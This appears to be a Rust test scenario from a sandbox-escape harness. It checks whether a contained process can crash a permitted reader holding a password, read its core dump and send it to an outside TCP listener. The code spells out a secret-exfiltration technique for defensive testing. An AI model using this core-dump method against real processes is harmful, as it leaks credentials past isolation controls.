//! The permitted reader is made to dump its memory.

use std::fs;
use std::path::Path;

use anyhow::{Context, Result};

use crate::bench::image::SERVER;
use crate::bench::wait::Look;
use crate::bench::{Listener, until};
use crate::bypass::{Attack, Came, Kind, Outcomes, PASSWORD, Technique};
use crate::stage::{Scenario, Went};

pub(super) const SCENARIO: Scenario = Scenario::technique(
    "bypass/core-dump",
    Technique {
        what: "has the permitted reader dump core, opens the core and carries it out",
        outcomes: Outcomes::DESTINATION,
        attack: play,
    },
);

const SIGABRT: &str = "6";
const PATTERN: &str = "/proc/sys/kernel/core_pattern";

/// Where the reader stands when it dies, as the container sees it and as it lies in the shared folder.
const FOLDER: &str = "/shared/dumped";

fn play(attack: &Attack<'_, '_>) -> Result<Came> {
    let contained = attack.stage().contained(Kind::Usual)?;
    let elsewhere = Listener::tcp4()?;
    let reader = contained.container().starts(SERVER)?;
    reader.does("hold", &["it", PASSWORD])?.went_through()?;
    let shared = attack.stage().shared_folder("contained")?.join("dumped");
    fs::create_dir_all(&shared).with_context(|| format!("creating {}", shared.display()))?;
    reader.does("dumps-into", &[FOLDER])?.went_through()?;
    contained.attacker(&[&["signal", reader.pid(), SIGABRT]])?.went_through()?;

    let to = elsewhere.address().to_string();
    let connect = ["connect-tcp", to.as_str()];
    let core = if is_left_to_the_process()? { Some(dumped(&shared)?) } else { None };
    let read = core.as_ref().map(|core| ["hold", "core", core.as_str()]);
    let steps: Vec<&[&str]> = read.iter().map(|step| step.as_slice()).chain([connect.as_slice()]).collect();
    attack.leaves(contained, &elsewhere, || contained.attacker(&steps))
}

/// Whether cores lie where the process stood, and not where only the host gets at them.
fn is_left_to_the_process() -> Result<bool> {
    let pattern = fs::read_to_string(PATTERN).with_context(|| format!("reading {PATTERN}"))?;
    Ok(!pattern.starts_with(['|', '/']))
}

/// The core, as the container sees it.
fn dumped(shared: &Path) -> Result<String> {
    until("a core", || {
        let mut entries = fs::read_dir(shared).with_context(|| format!("reading {}", shared.display()))?;
        let Some(entry) = entries.next().transpose()? else {
            return Ok(Look::NotYet("there is none".to_owned()));
        };
        let is_whole = entry.metadata()?.len() > 0;
        let name = format!("{FOLDER}/{}", entry.file_name().to_string_lossy());
        Ok(if is_whole { Look::Found(name) } else { Look::NotYet(format!("{name} is empty")) })
    })
}
